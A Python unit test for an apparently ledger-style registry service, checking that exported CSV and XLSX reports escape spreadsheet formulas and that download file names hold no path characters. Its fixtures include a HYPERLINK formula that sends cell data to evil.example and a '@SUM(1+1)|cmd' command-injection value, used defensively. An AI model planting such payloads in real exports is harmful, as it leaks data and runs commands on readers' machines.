#!/usr/bin/env python3
"""Files that leave the registry: no cell is a formula, no name is a path, whatever people wrote into their entries."""

import csv
import io
import pathlib
import re
import sys
import tempfile
import unittest
import urllib.parse

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE.parent / "lib")]
import tallystick_client as client  # noqa: E402

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"合同\")"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


class Exports(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.scratch = tempfile.TemporaryDirectory()
        data = pathlib.Path(cls.scratch.name) / "data"
        _, tokens = client.init(data)
        cls.server = client.Server(data)
        cls.link = cls.server.link(tokens["regulator"])
        city = client.City(data, cls.link)
        seller, buyer = city.unit("seller-1", ["trader"]), city.unit("buyer-1", ["user"])
        city.send(seller.make("site.add", {"site": "store-2", "name": HOSTILE, "kind": "store", "region": client.LEAF_REGION,
                                           "address": "@SUM(1+1)|cmd"}))
        city.selling_paper("L-1", seller)
        city.buying_paper("B-1", buyer, 50)
        city.stock(seller, "LOT-1", 100)
        city.send(client.sale(seller, buyer, "S-1", 5, "B-1", "L-1"))
        evil = client.Author(city.ledger, "evil-1", client.PrivateKey(client.ED25519))
        city.send(evil.make("party.register", {
            "name": HOSTILE, "kinds": ["user"], "uscc": client.uscc_of("evil-1"), "region": client.LEAF_REGION,
            "address": "+1", "key": evil.key_json}))

    @classmethod
    def tearDownClass(cls):
        cls.link.close()
        cls.server.stop()
        cls.scratch.cleanup()

    def all_kinds(self):
        said = client.run("report", "--help").stdout
        listed = re.search(r"kind TEXT REQUIRED\s+([^.]*)\.", said)[1]
        return [kind for kind in re.findall(r"[a-z]+(?:-[a-z]+)*", listed) if kind != "or"]

    def get(self, kind, form, **query):
        query = {"period": "2020-01-01/2039-12-31", "format": form, **query}
        return self.link.get(f"/v1/reports/{kind}?" + urllib.parse.urlencode(query))

    def made(self, form):
        """(kind, whom, answer) for each report that there is, of everybody."""
        out = []
        for kind in self.all_kinds():
            for whom in ({"party": "seller-1"}, {"party": "buyer-1"}, {"party": "evil-1"}, {"region": "3603"}):
                answer = self.get(kind, form, **whom)
                if answer.status == 200:
                    out.append((kind, whom, answer))
                else:
                    self.assertEqual((answer.status, answer.rule), (400, "bad-parameter"), (kind, whom))
        self.assertEqual({kind for kind, _, _ in out}, set(self.all_kinds()))
        return out

    def test_no_cell_of_any_report_is_a_formula(self):
        guarded = set()
        for language in ("zh", "en"):
            for kind, whom, _ in self.made("csv"):
                text = self.get(kind, "csv", lang=language, **whom).body.decode("utf-8")
                self.assertTrue(text.startswith("\ufeff"))
                for row in csv.reader(io.StringIO(text[1:], newline="")):
                    for cell in row:
                        bare = cell.lstrip(" ")
                        self.assertFalse(bare[:1] in tuple("=+-@\t\r\n＝＋－＠") and bare and not NUMBER.fullmatch(bare),
                                         (kind, whom, cell))
                        if cell.startswith("'="):
                            guarded.add(kind)
        self.assertTrue(guarded, "the hostile name is nowhere: this test shows nothing")

    def test_every_download_has_a_plain_name_and_is_never_shown_in_the_page(self):
        answers = [answer for form in ("csv", "xlsx") for _, _, answer in self.made(form)]
        answers.append(self.link.get("/v1/entries/0/bundle"))
        answers.append(self.link.get("/v1/permits/B-1/bundle"))
        for answer in answers:
            self.assertEqual(answer.status, 200, answer.body[:200])
            field = answer.headers["Content-Disposition"]
            found = re.fullmatch(r'attachment; filename="([^"\\/]+)"(?:; filename\*=UTF-8\'\'([A-Za-z0-9%._~-]+))?', field)
            self.assertTrue(found, field)
            for name in (found[1], urllib.parse.unquote(found[2] or "x.csv")):
                self.assertFalse(re.search(r'[\x00-\x1f/\\:*?"<>|]', name) or name.startswith("."), name)
            self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")


if __name__ == "__main__":
    unittest.main()
